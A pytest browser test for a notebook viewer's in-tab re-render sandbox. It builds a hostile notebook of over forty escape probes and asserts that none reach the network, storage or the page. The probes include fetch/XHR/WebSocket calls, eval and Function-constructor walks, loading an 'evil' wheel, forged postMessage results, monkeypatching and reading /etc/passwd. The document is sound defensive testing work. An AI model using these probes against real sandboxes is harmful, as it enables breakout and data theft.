"""The tab's re-render boundary under attack: a hostile notebook, one probe per code cell,
re-rendered through the viewer's button in headless Chromium (viewer.js rerenderInWorker: a
worker of its own, started for the run and terminated after it).

Each probe tries a way out of the re-render worker: requests to another origin (a listener on
127.0.0.1 at another port that counts every connection that arrives) and to the site's own
origin, through every request API, through eval and its cousins, through nested workers, origin
storage, channels to the page and the rest of the origin, and through the page's own Python
(monkeypatching cellar in the hope that the page's worker runs the patched code afterwards).
A probe prints `PROBE <name> :: refused <why>` when the attempt raised, `PROBE <name> ::
reached <what>` when it went through, `PROBE <name> :: pending` when it handed back a promise
(only the listener can tell whether that went out), `PROBE <name> :: done` for one whose effect
is looked for afterwards.

Escapes counted: probes that reached, connections at the listener, requests for the probes'
marked URLs at the site, a change in the offline copy's cache, a forged result shown by the
viewer, and a changed answer from the page's own worker. Python's layer (cellar.rerender.sandbox's
refusals) is tried too, and also walked around (`js._js`) to try the worker's own deletions."""

from __future__ import annotations

import functools
import json
import shutil
import socketserver
import textwrap
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote
from urllib.request import urlopen

import pytest
from tests.browser.conftest import BOOT_TIMEOUT_MS, service_worker_ready, wait_for

from cellar.site.server import serve_in_background

PATH = "probes/tab-probes.ipynb"
MARK = "cellar-probe"  # in every URL of the site a probe asks for
RERENDER_TIMEOUT_MS = 300_000
QUESTION = "ballast tank volume"

# (name, kind, body of `attempt()`): kind "sync" must raise, "async" may hand back a promise
# (then the listener decides), "effect" is checked from the page afterwards. OTHER is the
# listener, WS its ws: URL, REAL the `js` module behind the sandbox's guard.
PROBES: list[tuple[str, str, str]] = [
    ("js.fetch other origin", "sync", "return js.fetch(OTHER + '/1')"),
    ("js.self.fetch other origin", "sync", "return js.self.fetch(OTHER + '/2')"),
    ("js.globalThis.fetch other origin", "sync", "return js.globalThis.fetch(OTHER + '/3')"),
    ("fetch past the guard", "sync", "return REAL.fetch(OTHER + '/4')"),
    ("fetch own origin", "sync", f"return js.globalThis.fetch('build.json?{MARK}=5')"),
    ("fetch own origin archive", "sync", f"return js.self.fetch('archive/pathmap.json?{MARK}=6')"),
    (
        "sync XHR other origin",
        "sync",
        "x = REAL.XMLHttpRequest.new()\nx.open('GET', OTHER + '/7', False)\nx.send()\nreturn x.status",
    ),
    (
        "sync XHR own origin",
        "sync",
        f"x = js.globalThis.XMLHttpRequest.new()\nx.open('GET', 'build.json?{MARK}=8', False)\nx.send()\nreturn x.status",
    ),
    ("WebSocket", "sync", "return REAL.WebSocket.new(WS + '/9')"),
    ("EventSource", "sync", "return REAL.EventSource.new(OTHER + '/10')"),
    ("importScripts", "sync", "return REAL.importScripts(OTHER + '/11.js')"),
    ("sendBeacon", "sync", "return REAL.navigator.sendBeacon(OTHER + '/12', 'x')"),
    ("WebTransport", "sync", "return REAL.WebTransport.new('https://127.0.0.1:1/13')"),
    ("FontFace", "sync", "return REAL.FontFace.new('x', 'url(' + OTHER + '/14)').load()"),
    ("js.eval", "sync", 'return REAL.eval("fetch(\'" + OTHER + "/15\')")'),
    ("js.Function", "sync", 'return REAL.Function.new("return fetch(\'" + OTHER + "/16\')")()'),
    (
        "pyodide.code.run_js",
        "sync",
        'from pyodide.code import run_js\nreturn run_js("import(\'" + OTHER + "/17.js\')")',
    ),
    (
        "constructor walk to Function",
        "sync",
        'return REAL.Object.constructor.new("return globalThis.fetch(\'" + OTHER + "/18\')")()',
    ),
    (
        "prototype walk for a way out",
        "sync",
        "scope = REAL.self\n"
        "while scope is not None:\n"
        "    for name in ('fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'caches', 'indexedDB',\n"
        "                 'BroadcastChannel', 'Worker', 'SharedWorker', 'postMessage', 'WebTransport'):\n"
        "        if REAL.Object.hasOwn(scope, name):\n"
        "            return f'found {name}'\n"
        "    scope = REAL.Object.getPrototypeOf(scope)\n"
        "raise LookupError('none on the global prototype chain')",
    ),
    ("fetch through the global's constructor", "sync", "return REAL.self.constructor.prototype.fetch(OTHER + '/19')"),
    (
        "pyodide_js.loadPackage",
        "async",
        "import pyodide_js\nreturn pyodide_js.loadPackage(OTHER + '/20/evil-1.0-py3-none-any.whl')",
    ),
    (
        "pyodide_js.loadPackage own origin",
        "async",
        "import pyodide_js\nreturn pyodide_js.loadPackage(f'wheels/evil-1.0-py3-none-any.whl?{MARK}=26')",
    ),
    (
        "pyodide_js.loadPackage runtime",
        "async",
        "import pyodide_js\nreturn pyodide_js.loadPackage(f'pyodide/evil-1.0-py3-none-any.whl?{MARK}=27')",
    ),
    ("new Worker data:", "sync", 'return REAL.Worker.new("data:text/javascript,fetch(\'" + OTHER + "/21\')")'),
    (
        "new Worker blob:",
        "sync",
        "from pyodide.ffi import to_js\n"
        'blob = REAL.Blob.new(to_js(["fetch(\'" + OTHER + "/22\')"]))\n'
        "return REAL.Worker.new(REAL.URL.createObjectURL(blob))",
    ),
    (
        "new Worker same origin",
        "sync",
        "from pyodide.ffi import to_js\n"
        "return REAL.Worker.new('worker.js', to_js({'type': 'module'}, dict_converter=REAL.Object.fromEntries))",
    ),
    ("new SharedWorker", "sync", "return REAL.SharedWorker.new('worker.js')"),
    ("caches.open", "sync", "return REAL.caches.open('cellar-probe')"),
    ("self.caches.keys", "sync", "return REAL.self.caches.keys()"),
    ("indexedDB.open", "sync", "return REAL.indexedDB.open('cellar-probe')"),
    ("origin private file system", "sync", "return REAL.navigator.storage.getDirectory()"),
    ("storage bucket", "sync", "return REAL.navigator.storageBuckets.open('cellar-probe')"),
    ("Web Locks", "sync", "return REAL.navigator.locks.query()"),
    ("serviceWorker.register", "sync", "return REAL.navigator.serviceWorker.register('sw.js?build=probe')"),
    ("BroadcastChannel", "sync", "return REAL.BroadcastChannel.new('cellar').postMessage('forged')"),
    (
        "postMessage a forged result",
        "sync",
        "forged = REAL.JSON.parse(FORGED)\nreturn REAL.postMessage(forged)",
    ),
    (
        "postMessage through the prototype",
        "sync",
        "forged = REAL.JSON.parse(FORGED)\n"
        "return REAL.DedicatedWorkerGlobalScope.prototype.postMessage.call(REAL.self, forged)",
    ),
    ("urllib", "sync", "import urllib.request\nreturn urllib.request.urlopen(OTHER + '/23').read()"),
    ("pyodide.http.pyfetch", "sync", "from pyodide.http import pyfetch\nreturn pyfetch(OTHER + '/24')"),
    ("pyodide.http.open_url", "sync", "from pyodide.http import open_url\nreturn open_url(OTHER + '/25').read()"),
    ("socket", "sync", "import socket\nreturn socket.create_connection(('127.0.0.1', PORT))"),
    ("open an unmapped path", "sync", "return open('/etc/passwd').read()"),
    ("open an unmapped share", "sync", "return open(r'\\\\server\\share\\secret.csv').read()"),
    (
        "monkeypatch the page's cellar",
        "effect",
        "import cellar.ingest.provenance as provenance\n"
        "import cellar.site.bridge as bridge\n"
        "forged = lambda *args, **kwargs: {'forged': True}\n"
        "bridge.search = bridge.notebook_view = bridge.run_code = forged\n"
        "provenance.revision = lambda text: '0' * 64\n"
        "return 'patched'",
    ),
    ("leave a global for the page", "effect", "REAL.globalThis.cellarProbe = 'left'\nreturn 'left'"),
]

FORGED = json.dumps(
    {
        "type": "result",
        "id": 2,
        "ok": True,
        "value": {"path": PATH, "status": "clean", "reason": None, "seconds": 0, "cells": [], "ipynb": "{}"},
    }
)


def probe_notebook(port: int) -> dict:
    setup = textwrap.dedent(
        f"""\
        import js
        OTHER = "http://127.0.0.1:{port}"
        WS = "ws://127.0.0.1:{port}"
        PORT = {port}
        FORGED = {FORGED!r}
        REAL = getattr(js, "_js", js)  # the worker's globals behind the sandbox's Python-level guard
        MARK = "{MARK}"

        def probe(name, kind, attempt):
            try:
                value = attempt()
            except KeyboardInterrupt:
                raise
            except BaseException as error:
                print(f"PROBE {{name}} :: refused {{type(error).__name__}}: {{str(error)[:90]}}")
                return
            if kind == "async" and (hasattr(value, "then") or hasattr(value, "add_done_callback")):
                print(f"PROBE {{name}} :: pending")
            elif kind == "effect":
                print(f"PROBE {{name}} :: done")
            else:
                print(f"PROBE {{name}} :: reached {{str(value)[:90]}}")
        """
    )
    cells = [setup] + [
        f"def attempt():\n{textwrap.indent(body, '    ')}\n\nprobe({name!r}, {kind!r}, attempt)"
        for name, kind, body in PROBES
    ]
    return {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {"title": "Tab probes"},
        "cells": [
            {
                "cell_type": "code",
                "id": f"c{index}",
                "metadata": {},
                "execution_count": None,
                "outputs": [],
                "source": source,
            }
            for index, source in enumerate(cells)
        ],
    }


class Listener(ThreadingHTTPServer):
    """Counts every connection that reaches it (whatever it then says) and every request line."""

    def __init__(self) -> None:
        self.connections = 0
        self.requests: list[str] = []
        self.lock = threading.Lock()

        listener = self

        class Handler(BaseHTTPRequestHandler):
            def handle_one_request(self) -> None:
                super().handle_one_request()
                if self.requestline:
                    with listener.lock:
                        listener.requests.append(self.requestline)

            def do_GET(self) -> None:  # noqa: N802 - stdlib name
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"reached")

            do_POST = do_PUT = do_OPTIONS = do_GET  # noqa: N815

            def log_message(self, *args: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    def verify_request(self, request: socketserver._RequestType, client_address: object) -> bool:
        with self.lock:
            self.connections += 1
        return True

    def reset(self) -> None:
        with self.lock:
            self.connections = 0
            self.requests.clear()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    server = Listener()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def probe_site(site, listener, tmp_path_factory) -> Path:
    """site/ with the probe notebook added to its archive (the rest linked as it is)."""
    root = tmp_path_factory.mktemp("probe-site")
    for entry in site.iterdir():
        if entry.name != "archive":
            (root / entry.name).symlink_to(entry)
    shutil.copytree(site / "archive", root / "archive")
    (root / "archive" / PATH).parent.mkdir(parents=True)
    (root / "archive" / PATH).write_text(json.dumps(probe_notebook(listener.server_port)), encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def probe_server(probe_site) -> Iterator[tuple[str, list[str]]]:
    """The probe site served, and every request path it receives."""
    server = serve_in_background(probe_site)
    seen: list[str] = []
    handler = server.RequestHandlerClass  # the site's handler, bound to its folder
    base = getattr(handler, "func", handler)

    class Recording(base):  # type: ignore[misc, valid-type]
        def parse_request(self) -> bool:
            ok = super().parse_request()
            seen.append(self.path)
            return ok

    if isinstance(handler, functools.partial):
        server.RequestHandlerClass = functools.partial(Recording, *handler.args, **handler.keywords)
    else:
        server.RequestHandlerClass = Recording
    yield f"http://127.0.0.1:{server.server_port}/", seen
    server.shutdown()
    server.server_close()


CACHED = """async () => { const out = [];
  for (const name of (await caches.keys()).sort()) { const cache = await caches.open(name);
    for (const request of await cache.keys()) out.push(`${name} ${request.url}`); }
  return out.sort(); }"""

# What the page's own worker answers: a search (as search-client.js asks it), the notebook's
# view, a revision, and whether Python there sees a global a notebook left.
PAGE_ANSWERS = """async ([question, file, path]) => {
  const build = await (await fetch("build.json")).json();
  const manifest = await (await fetch(build.shard + "manifest.json")).json();
  const shard = (names) => Object.fromEntries(names.map((name) => [`/shard/${name}`, build.shard + name]));
  await cellar.callWith({ files: shard(["manifest.json", ...Object.keys(manifest.files).filter((n) => !n.startsWith("fragments/"))]) },
    "cellar.site.bridge", "search_open", "/shard");
  let answer = await cellar.call("cellar.site.bridge", "search", question, { k: 3 }, "/shard");
  if (answer.fetch) answer = await cellar.callWith({ files: shard(answer.fetch) }, "cellar.site.bridge", "search", question, { k: 3 }, "/shard");
  delete answer.timings_ms;
  return {
    search: answer,
    view: await cellar.call("cellar.site.bridge", "notebook_view", file, path),
    revision: await cellar.revision("cellar"),
    run: (await cellar.call("cellar.site.bridge", "run_code", "import js\\nprint(hasattr(js, 'cellarProbe'))")).stdout,
  };
}"""


def test_at_least_twenty_five_probes():
    assert len(PROBES) >= 25


def test_a_hostile_notebook_rerendered_in_the_tab_reaches_nothing(browser, probe_server, listener, screenshot):
    url, seen = probe_server
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.set_default_timeout(BOOT_TIMEOUT_MS)
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    try:
        # The listener counts what arrives from this browser (a control: the count is not vacuous).
        control = context.new_page()
        control.goto(f"http://127.0.0.1:{listener.server_port}/control")
        control.close()
        with urlopen(f"http://127.0.0.1:{listener.server_port}/control") as response:
            assert response.read() == b"reached"
        assert listener.connections >= 2
        listener.reset()

        page.goto(f"{url}viewer.html?path={quote(PATH)}")
        wait_for(page, "document.body.dataset.rendered === 'true'")
        service_worker_ready(page)
        wait_for(page, "navigator.serviceWorker.controller !== null")
        cached_before = page.evaluate(CACHED)
        assert cached_before, "the offline copy is in place before the run"
        file = f"/archive/{PATH}"
        before = page.evaluate(PAGE_ANSWERS, [QUESTION, file, PATH])
        assert before["search"]["notebooks"] and before["run"] == "False\n"

        page.get_by_role("button", name="Re-render in this tab").click()
        wait_for(page, "document.body.dataset.rerendered", timeout=RERENDER_TIMEOUT_MS)
        status = page.evaluate("document.body.dataset.rerendered")
        page.wait_for_timeout(1000)  # anything a probe left pending has had its chance to arrive
        lines = [
            line
            for text in page.locator(".outputs.fresh").all_inner_texts()
            for line in text.splitlines()
            if line.startswith("PROBE ")
        ]
        screenshot("viewer-tab-probes")

        after = page.evaluate(PAGE_ANSWERS, [QUESTION, file, PATH])
        cached_after = page.evaluate(CACHED)
        with page.expect_download() as download:
            page.locator("#rerender-download").click()
        fresh = json.loads(Path(download.value.path()).read_text(encoding="utf-8"))
    finally:
        context.close()

    verdicts = dict(line.removeprefix("PROBE ").split(" :: ", 1) for line in lines)
    assert set(verdicts) == {name for name, _, _ in PROBES}, f"probes that printed nothing: {lines}"
    reached = [f"{name}: {verdict}" for name, verdict in verdicts.items() if verdict.startswith("reached")]
    marked = [path for path in seen if MARK in path]
    page_changed = [key for key in before if before[key] != after[key]]
    forged_shown = status == "clean" or len(fresh["cells"]) != len(PROBES) + 1
    escapes = (
        len(reached)
        + listener.connections
        + len(marked)
        + (cached_before != cached_after)
        + len(page_changed)
        + forged_shown
    )
    print(
        f"\ntab boundary: {len(PROBES)} probes, {sum(v.startswith('refused') for v in verdicts.values())} refused, "
        f"{sum(v.startswith('pending') for v in verdicts.values())} pending, "
        f"{sum(v.startswith('done') for v in verdicts.values())} effects checked from the page; "
        f"{listener.connections} connections at the listener, {len(marked)} marked requests at the site, "
        f"cache {'unchanged' if cached_before == cached_after else 'CHANGED'} ({len(cached_after)} entries), "
        f"page's worker {'unaffected' if not page_changed else f'CHANGED {page_changed}'}; escapes: {escapes}"
    )
    for name, verdict in verdicts.items():
        print(f"  {name}: {verdict}")
    assert reached == []
    assert listener.connections == 0, listener.requests
    assert marked == []
    assert cached_before == cached_after
    assert page_changed == []
    assert not forged_shown, (status, len(fresh["cells"]))
    assert escapes == 0
    assert not errors, errors


def test_the_probes_catch_what_the_page_worker_would_let_through(browser, probe_server):
    """A control: the same notebook run in the page's own worker (where the re-render ran before
    it had one of its own) shows the probes are not vacuous: there, requests to the site go out."""
    url, seen = probe_server
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(BOOT_TIMEOUT_MS)
    try:
        page.goto(f"{url}viewer.html?path={quote(PATH)}")
        wait_for(page, "document.body.dataset.rendered === 'true'")
        seen.clear()
        result = page.evaluate(
            """async (path) => {
            const lock = "/pyodide/pyodide-lock.json";
            const texts = { pathmap: null, requirements: null, settings: null };
            const plan = await cellar.callWith({ files: { [lock]: "pyodide/pyodide-lock.json" } },
                "cellar.site.bridge", "rerender_plan", texts, lock);
            return cellar.callWith({ files: { [`/archive/${path}`]: `archive/${path}` }, packages: plan.packages },
                "cellar.site.bridge", "rerender_notebook", `/archive/${path}`, path, "/archive", texts, lock);
            }""",
            PATH,
        )
        page.wait_for_timeout(1000)
    finally:
        context.close()
    lines = [
        line
        for cell in result["cells"]
        for output in cell["outputs"]
        for line in (output["text"] or "").splitlines()
        if line.startswith("PROBE ")
    ]
    verdicts = dict(line.removeprefix("PROBE ").split(" :: ", 1) for line in lines)
    reached = sorted(name for name, verdict in verdicts.items() if verdict.startswith("reached"))
    marked = sorted(path for path in seen if MARK in path)
    print(f"\nin the page's worker: {len(reached)} of {len(PROBES)} probes reached: {reached}; at the site: {marked}")
    assert {"fetch own origin", "sync XHR own origin", "new Worker same origin"} <= set(reached)
    assert marked
